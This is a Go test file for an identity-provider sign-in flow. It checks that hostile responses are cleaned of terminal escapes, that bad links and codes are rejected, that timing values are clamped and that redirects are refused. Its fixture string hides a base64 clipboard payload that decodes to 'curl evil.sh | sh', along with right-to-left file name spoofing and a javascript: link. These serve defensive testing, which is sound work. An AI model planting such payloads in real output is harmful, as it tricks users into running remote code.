package flow_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"mfpmail/assets"
	"mfpmail/flow"
)

// evil is what a hostile identity provider or Graph puts in every text:
// a window title (OSC 0), a clipboard write (OSC 52), a screen clear
// (CSI), the same as a C1 control, and a right-to-left override.
const evil = "\x1b]0;pwned\x07 \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b[2J\x1b[H \u009b2J \u202egpj.exe"

var terminalControls = []string{"\x1b", "\x07", "\u009b", "\u202e"}

func assertClean(t *testing.T, where, s string) {
	t.Helper()
	for _, c := range terminalControls {
		if strings.Contains(s, c) {
			t.Fatalf("%s holds %q: %q", where, c, s)
		}
	}
}

// hostileIdP is an identity provider and Graph someone else controls:
// each endpoint answers with what the test sets. It serves plain http on
// loopback, which the sign-in accepts for a lab provider.
type hostileIdP struct {
	srv     *httptest.Server
	release chan struct{} // closed when the test ends: hanging handlers return
	hits    sync.Map      // path → *atomic.Int32
	device  func(w http.ResponseWriter, r *http.Request)
	token   func(w http.ResponseWriter, r *http.Request)
	graph   func(w http.ResponseWriter, r *http.Request)
}

func startIdP(t *testing.T) *hostileIdP {
	t.Helper()
	h := &hostileIdP{release: make(chan struct{})}
	h.device = jsonAnswer(200, deviceBody("https://idp.example/device", "ABCD-EFGH", 900, 1))
	h.token = jsonAnswer(400, map[string]any{"error": "authorization_pending"})
	h.graph = jsonAnswer(200, map[string]any{"userPrincipalName": "scanner@contoso.com"})
	h.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		n, _ := h.hits.LoadOrStore(r.URL.Path, new(atomic.Int32))
		n.(*atomic.Int32).Add(1)
		switch {
		case strings.HasSuffix(r.URL.Path, "/devicecode"):
			h.device(w, r)
		case strings.HasSuffix(r.URL.Path, "/token"):
			h.token(w, r)
		case strings.HasPrefix(r.URL.Path, "/v1.0/me"):
			h.graph(w, r)
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(h.srv.Close)
	t.Cleanup(func() { close(h.release) })
	return h
}

func (h *hostileIdP) count(path string) int {
	n, ok := h.hits.Load(path)
	if !ok {
		return 0
	}
	return int(n.(*atomic.Int32).Load())
}

func (h *hostileIdP) config(log *bytes.Buffer) flow.Config {
	cfg := flow.Config{Lang: assets.EN, Authority: h.srv.URL, GraphURL: h.srv.URL,
		HTTPClient: flow.NewHTTPClientWaits(nil, 2*time.Second, 2*time.Second)}
	if log != nil {
		return cfg.WithLog(flow.NewLogger(&lockedBuffer{b: log}))
	}
	return cfg.WithDefaults()
}

// lockedBuffer lets the logger write from the HTTP goroutines.
type lockedBuffer struct {
	mu sync.Mutex
	b  *bytes.Buffer
}

func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func jsonAnswer(status int, v any) func(http.ResponseWriter, *http.Request) {
	return func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(status)
		json.NewEncoder(w).Encode(v)
	}
}

func deviceBody(uri, code string, expires, interval any) map[string]any {
	return map[string]any{"device_code": "dev-code-secret-0123456789", "user_code": code,
		"verification_uri": uri, "expires_in": expires, "interval": interval, "message": "Open " + evil}
}

func idToken(claims map[string]any) string {
	b, _ := json.Marshal(claims)
	enc := base64.RawURLEncoding.EncodeToString
	return enc([]byte(`{"alg":"none"}`)) + "." + enc(b) + ".sig"
}

// Every text the identity provider sends in an error (error,
// error_description, trace and correlation ids) reaches the Problem
// cleaned; the log holds them only in quoted form.
func TestHostileErrorCleaned(t *testing.T) {
	h := startIdP(t)
	h.token = jsonAnswer(400, map[string]any{"error": "access_denied" + evil, "error_description": "AADSTS50126: " + evil + "\r\nTrace ID: x",
		"error_codes": []int{50126}, "trace_id": "trace" + evil, "correlation_id": "corr" + evil, "timestamp": evil})
	var log bytes.Buffer
	cfg := h.config(&log)
	_, p, dc := signIn(t, cfg)
	if p == nil || dc == nil {
		t.Fatalf("problem %v code %v", p, dc)
	}
	for _, s := range []string{p.Title, p.Detail, p.Fix, p.Code, p.Description, p.TraceID, p.CorrelationID, p.Timestamp, p.Received(), p.Error()} {
		assertClean(t, "problem", s)
	}
	if !strings.Contains(p.Description, `\x1b]52;c;`) {
		t.Errorf("description %q does not show the escape", p.Description)
	}
	assertClean(t, "log", log.String())
	if !strings.Contains(log.String(), `\u202e`) {
		t.Errorf("log does not quote what was received:\n%s", log.String())
	}
}

// Who signed in, from the ID token and from Graph, reaches the Identity
// cleaned, every field of it.
func TestHostileIdentityCleaned(t *testing.T) {
	h := startIdP(t)
	h.token = func(w http.ResponseWriter, r *http.Request) {
		jsonAnswer(200, map[string]any{"access_token": "at-0123456789abcdef", "token_type": "Bearer", "expires_in": 3600,
			"refresh_token": "rt-0123456789abcdef", "id_token": idToken(map[string]any{"preferred_username": "upn" + evil,
				"email": "mail" + evil, "name": "name" + evil, "tid": "tid" + evil, "oid": "oid" + evil})})(w, r)
	}
	h.graph = jsonAnswer(200, map[string]any{"id": "id" + evil, "displayName": "Scan " + evil, "userPrincipalName": "scanner" + evil + "@contoso.com",
		"mail": "mail" + evil + "@contoso.com", "proxyAddresses": []string{"SMTP:p" + evil + "@contoso.com", "smtp:a" + evil + "@contoso.com"}})
	var log bytes.Buffer
	s, p, _ := signIn(t, h.config(&log))
	if p != nil {
		t.Fatal(p.Title)
	}
	id := s.Identity
	if !id.FromGraph {
		t.Fatalf("Graph not used: %v", id.GraphProblem)
	}
	all := append([]string{id.UPN, id.Mail, id.Email, id.Name, id.TenantID, id.ObjectID, id.PrimaryAddress()}, id.ProxyAddresses...)
	for _, v := range all {
		assertClean(t, "identity", v)
	}
	if !strings.Contains(id.Name, `\x1b[2J`) {
		t.Errorf("name %q does not show the escape", id.Name)
	}
	assertClean(t, "log", log.String())
}

// A Graph refusal's code and message are cleaned too.
func TestHostileGraphErrorCleaned(t *testing.T) {
	h := startIdP(t)
	h.token = jsonAnswer(200, map[string]any{"access_token": "at-0123456789abcdef", "token_type": "Bearer", "refresh_token": "rt-0123456789abcdef"})
	h.graph = jsonAnswer(403, map[string]any{"error": map[string]any{"code": "Forbidden" + evil, "message": evil}})
	s, p, _ := signIn(t, h.config(nil))
	if p != nil {
		t.Fatal(p.Title)
	}
	gp := s.Identity.GraphProblem
	if gp == nil {
		t.Fatal("no Graph problem")
	}
	for _, v := range []string{gp.Title, gp.Detail, gp.Fix, gp.Code, gp.Description, gp.Received()} {
		assertClean(t, "graph problem", v)
	}
}

// A sign-in link or a code that does not have the form it must have fails
// the sign-in before anything is shown.
func TestInvalidLinkOrCode(t *testing.T) {
	cases := []struct {
		uri, code, want string
	}{
		{"javascript:alert(1)", "ABCD", "invalid-link"},
		{"http://idp.example/device", "ABCD", "invalid-link"},
		{"https://idp.example/device" + evil, "ABCD", "invalid-link"},
		{"https://idp.example/\u202edevice", "ABCD", "invalid-link"},
		{"https://user:pass@idp.example/device", "ABCD", "invalid-link"},
		{"https://idp.example/" + strings.Repeat("a", 2100), "ABCD", "invalid-link"},
		{"https://idp.example/device", "AB" + evil, "invalid-code"},
		{"https://idp.example/device", "ABCD EFGH", "invalid-code"},
		{"https://idp.example/device", strings.Repeat("A", 33), "invalid-code"},
		{"https://idp.example/device", "ＡＢＣＤ", "invalid-code"},
	}
	for _, c := range cases {
		h := startIdP(t)
		h.device = jsonAnswer(200, deviceBody(c.uri, c.code, 900, 5))
		_, err := flow.StartSignIn(context.Background(), h.config(nil))
		p := asProblem(t, err)
		if p.ID != c.want {
			t.Errorf("uri %q code %q: problem %q, want %q", c.uri, c.code, p.ID, c.want)
		}
		for _, s := range []string{p.Title, p.Detail, p.Fix} {
			assertClean(t, "problem", s)
		}
		if c.want == "invalid-link" && !strings.Contains(p.Title, "invalid sign-in link") {
			t.Errorf("title %q", p.Title)
		}
	}
	// Accepted: https anywhere, http on loopback, the longest code.
	for _, uri := range []string{"https://microsoft.com/devicelogin", "http://127.0.0.1:8080/device", "https://x.example/" + strings.Repeat("a", 2000)} {
		h := startIdP(t)
		h.device = jsonAnswer(200, deviceBody(uri, strings.Repeat("A", 32), 900, 5))
		if _, err := flow.StartSignIn(context.Background(), h.config(nil)); err != nil {
			t.Errorf("%q refused: %v", uri, err)
		}
	}
}

// expires_in and interval outside sane ranges are clamped, with a note in
// the log; numbers too big for a duration do not overflow.
func TestExpiresAndIntervalClamped(t *testing.T) {
	cases := []struct {
		expires, interval any
		wantExp, wantIv   time.Duration
	}{
		{-5, -3, 5 * time.Second, time.Second},
		{0, 0, 5 * time.Second, time.Second},
		{json.Number("1000000000000"), json.Number("1e9"), time.Hour, time.Minute},
		{1e12, 1e9, time.Hour, time.Minute},
		{900, 5, 15 * time.Minute, 5 * time.Second},
	}
	for _, c := range cases {
		h := startIdP(t)
		h.device = jsonAnswer(200, deviceBody("https://idp.example/device", "ABCD", c.expires, c.interval))
		var log bytes.Buffer
		dc, err := flow.StartSignIn(context.Background(), h.config(&log))
		if err != nil {
			t.Fatal(err)
		}
		if got := dc.Expiry.Sub(dc.Issued); got != c.wantExp {
			t.Errorf("expires_in %v: valid for %v, want %v", c.expires, got, c.wantExp)
		}
		if dc.PollInterval() != c.wantIv {
			t.Errorf("interval %v: polls every %v, want %v", c.interval, dc.PollInterval(), c.wantIv)
		}
		clamped := strings.Count(log.String(), "clamped a value")
		if want := map[bool]int{true: 0, false: 2}[c.wantExp == 15*time.Minute]; clamped != want {
			t.Errorf("expires_in %v interval %v: %d log notes, want %d\n%s", c.expires, c.interval, clamped, want, log.String())
		}
	}
}

// No redirect is followed: not by the device code request, not by a token
// poll (both would re-send a secret), not by Graph (the bearer token).
// The other host never hears from the wizard.
func TestRedirectsNotFollowed(t *testing.T) {
	var elsewhere atomic.Int32
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		elsewhere.Add(1)
		fmt.Fprint(w, `{"device_code":"x","user_code":"X","verification_uri":"https://a.example/","access_token":"x","userPrincipalName":"x"}`)
	}))
	t.Cleanup(other.Close)
	redirect := func(w http.ResponseWriter, r *http.Request) {
		// Go's client refuses C0 controls in a header outright; C1 and
		// bidi controls come through.
		w.Header().Set("Location", other.URL+"/steal\u009b2J\u202egpj.exe")
		w.WriteHeader(http.StatusTemporaryRedirect)
	}

	h := startIdP(t)
	h.device = redirect
	_, err := flow.StartSignIn(context.Background(), h.config(nil))
	p := asProblem(t, err)
	if p.ID != "redirected" || p.HTTPStatus != 307 {
		t.Errorf("device code: problem %q status %d", p.ID, p.HTTPStatus)
	}
	assertClean(t, "problem", p.Detail)

	h = startIdP(t)
	h.token = redirect
	_, p, _ = signIn(t, h.config(nil))
	if p == nil || p.ID != "redirected" {
		t.Errorf("token poll: problem %v", p)
	}

	h = startIdP(t)
	h.token = jsonAnswer(200, map[string]any{"access_token": "at-0123456789abcdef", "token_type": "Bearer", "refresh_token": "rt-0123456789abcdef"})
	h.graph = redirect
	s, p, _ := signIn(t, h.config(nil))
	if p != nil || s.Identity.FromGraph || s.Identity.GraphProblem == nil || s.Identity.GraphProblem.HTTPStatus != 307 {
		t.Errorf("graph: problem %v identity %+v", p, s.Identity)
	}
	if n := elsewhere.Load(); n != 0 {
		t.Fatalf("the other host got %d requests", n)
	}
}

// Each way an answer fails to come is named: no headers in time, a body
// that drips, and the caller's own deadline (check --timeout).
func TestSlowAnswersDiagnosed(t *testing.T) {
	h := startIdP(t)
	h.device = func(w http.ResponseWriter, r *http.Request) {
		select { // never answers
		case <-r.Context().Done():
		case <-h.release:
		}
	}
	cfg := h.config(nil)
	cfg.HTTPClient = flow.NewHTTPClientWaits(nil, 200*time.Millisecond, time.Minute)
	_, err := flow.StartSignIn(context.Background(), cfg.WithDefaults())
	if p := asProblem(t, err); p.ID != "no-answer" || !strings.Contains(p.Title, "No answer from the identity provider") {
		t.Errorf("silent server: %q %q", p.ID, p.Title)
	}

	ctx, cancel := context.WithTimeout(context.Background(), 200*time.Millisecond)
	defer cancel()
	cfg.HTTPClient = flow.NewHTTPClientWaits(nil, time.Minute, time.Minute)
	_, err = flow.StartSignIn(ctx, cfg.WithDefaults())
	if p := asProblem(t, err); p.ID != "run-timeout" || !strings.Contains(p.Title, "--timeout") {
		t.Errorf("caller's deadline: %q %q", p.ID, p.Title)
	}

	h2 := startIdP(t)
	h2.device = func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(200)
		for range 1000 { // one byte every 20 ms
			if _, err := w.Write([]byte(" ")); err != nil {
				return
			}
			w.(http.Flusher).Flush()
			select {
			case <-r.Context().Done():
				return
			case <-h2.release:
				return
			case <-time.After(20 * time.Millisecond):
			}
		}
	}
	cfg = h2.config(nil)
	cfg.HTTPClient = flow.NewHTTPClientWaits(nil, time.Minute, 200*time.Millisecond)
	_, err = flow.StartSignIn(context.Background(), cfg.WithDefaults())
	if p := asProblem(t, err); p.ID != "too-slow" || !strings.Contains(p.Title, "too slow") {
		t.Errorf("dripping server: %q %q", p.ID, p.Title)
	}
}
